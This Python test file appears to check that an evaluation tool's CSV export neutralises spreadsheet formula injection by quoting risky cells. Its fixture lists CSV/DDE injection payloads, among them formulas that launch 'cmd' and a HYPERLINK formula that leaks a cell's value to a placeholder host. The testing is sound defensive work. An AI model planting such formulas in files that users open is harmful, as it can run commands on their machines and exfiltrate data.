"""``agent-eval export --format csv`` is safe to open in a spreadsheet: cells a
spreadsheet would run as formulas start with a quote (OWASP's CSV Injection advice);
``--raw`` and JSON lines keep the stored text exactly."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner
from support.factories import add_run

from agent_eval.cli import main
from agent_eval.store import open_store
from agent_eval.transcript import CallRecord, SessionRecord, TurnRecord

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.invalid/?leak="&A1,"open")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\x00=1+1",
]
PLAIN = ["uv run scripts/db_query.py --sql 'select 1'", "ls | head -5", "a=1", ""]


@pytest.fixture
def db(tmp_path) -> str:
    path = str(tmp_path / "runs.db")
    commands = FORMULAS + PLAIN
    calls = [CallRecord(index=i, turn_index=0, tool="bash", arguments="{}", decision="deny",
                        primary="AE307", command=c) for i, c in enumerate(commands)]
    with open_store(path) as store:
        add_run(store, [SessionRecord(
            key="-s/1/0", target="=model", scenario="@scenario", status="completed", error=None,
            tags=[], messages=[], turns=[TurnRecord(index=0, content="")], calls=calls)],
            label="x", kind="import", base_url="import")
    return path


def export(db: str, tmp_path: Path, *args: str) -> str:
    out = tmp_path / "calls.out"
    result = CliRunner().invoke(main, ["export", "1", "-o", str(out), "--db", db, *args])
    assert result.exit_code == 0, result.output
    with out.open(encoding="utf-8", newline="") as fh:  # keep a CR inside a cell
        return fh.read()


def test_formula_cells_start_with_a_quote_and_every_cell_is_quoted(db, tmp_path):
    text = export(db, tmp_path, "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [r["command"] for r in rows] == ["'" + c for c in FORMULAS] + PLAIN
    assert {r["target"] for r in rows} == {"'=model"}
    assert {r["scenario"] for r in rows} == {"'@scenario"}
    assert {r["session_key"] for r in rows} == {"'-s/1/0"}
    assert rows[0]["run"] == "1"  # numbers are never quoted with '
    for line in text.splitlines()[:2]:
        assert line.startswith('"') and line.endswith('"')


def test_raw_csv_and_json_lines_keep_the_stored_text(db, tmp_path):
    raw = list(csv.DictReader(io.StringIO(export(db, tmp_path, "--format", "csv", "--raw"),
                                          newline="")))
    assert [r["command"] for r in raw] == FORMULAS + PLAIN
    lines = export(db, tmp_path).splitlines()
    assert [json.loads(line)["command"] for line in lines] == FORMULAS + PLAIN


def test_the_help_says_what_is_done_and_how_to_get_raw_values():
    result = CliRunner().invoke(main, ["export", "--help"])
    assert "OWASP" in result.output and "--raw" in result.output
